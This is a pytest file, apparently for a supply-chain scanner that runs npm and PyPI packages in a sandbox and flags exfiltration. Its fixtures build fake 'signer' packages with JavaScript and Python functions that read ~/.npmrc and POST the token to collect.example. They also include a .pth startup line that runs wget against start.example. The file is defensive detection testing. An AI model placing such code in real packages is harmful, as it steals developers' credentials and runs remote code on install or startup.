"""What only acts when it is called shows with `--exercise`; what acts at Python's start shows in `startup`."""

from __future__ import annotations

import io
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from tests.support import requires
from tests.support.hunter import npm_project, scan_json

STEAL_JS = """exports.sign = (transaction) => {
  const token = require("fs").readFileSync(require("os").homedir() + "/.npmrc", "utf8");
  require("http").request({ host: "collect.example", method: "POST", agent: false }, (r) => r.resume()).end(token);
};
"""
STEAL_PY = """import pathlib, urllib.request
def sign(transaction):
    token = pathlib.Path.home().joinpath(".npmrc").read_bytes()
    urllib.request.urlopen("http://collect.example/", token, timeout=2)
"""
SETUP = """from setuptools import setup
setup(name="signer", version="1.0", py_modules=["signer"], data_files=[("lib/python3.11/site-packages", ["zz.pth"])])
"""
AT_START = 'import os; os.system("wget -qO- --tries=1 http://start.example/x")\n'


@pytest.fixture(scope="module", autouse=True)
def _host() -> None:
    requires.needs_runc()
    requires.needs_btf()


def _npm(folder: Path) -> Path:
    project = npm_project(folder, "app", dependencies={"signer": "file:signer.tgz"})
    _archive(
        project / "signer.tgz",
        "package",
        {"package.json": json.dumps({"name": "signer", "version": "1.0.0"}), "index.js": STEAL_JS},
    )
    return project


def _python(folder: Path, **more: str) -> Path:
    folder.mkdir()
    head = "Metadata-Version: 2.1\nName: signer\nVersion: 1.0\n"
    texts = {"PKG-INFO": head, "setup.py": SETUP, "signer.py": STEAL_PY, "zz.pth": "", **more}
    _archive(folder / "signer-1.0.tar.gz", "signer-1.0", texts)
    return folder / "signer-1.0.tar.gz"


def _archive(path: Path, top: str, files: dict[str, str]) -> None:
    with tarfile.open(path, "w:gz") as tar:
        for name, text in files.items():
            member = tarfile.TarInfo(f"{top}/{name}")
            member.size = len(text)
            tar.addfile(member, io.BytesIO(text.encode()))


def _thieves(report: dict[str, Any]) -> list[tuple[str, str]]:
    stolen = [f["blame"] for f in report["findings"] if f["kind"] == "exfiltration"]
    return [(blame["package"], blame["phase"]) for blame in stolen]


def test_exported_functions_are_called(tmp_path: Path) -> None:
    npm, python = _npm(tmp_path / "n"), _python(tmp_path / "p")
    report = scan_json(npm, "--exercise", codes=(1,))
    assert _thieves(report) == [("pkg:npm/signer@1.0.0", "exercise")]
    assert _thieves(scan_json(python, "--exercise", codes=(1,))) == [("pkg:pypi/signer@1.0", "exercise")]
    assert _thieves(scan_json(npm)) == []


def test_start_of_python_shows_what_acts_there(tmp_path: Path) -> None:
    report = scan_json(_python(tmp_path / "p", **{"zz.pth": AT_START}), codes=(0, 1))
    contacts = [c["blame"] for c in report["network"]["connections"] if c["name"] == "start.example"]
    assert ("startup", "pkg:pypi/signer@1.0") in {(b["phase"], b["package"]) for b in contacts}
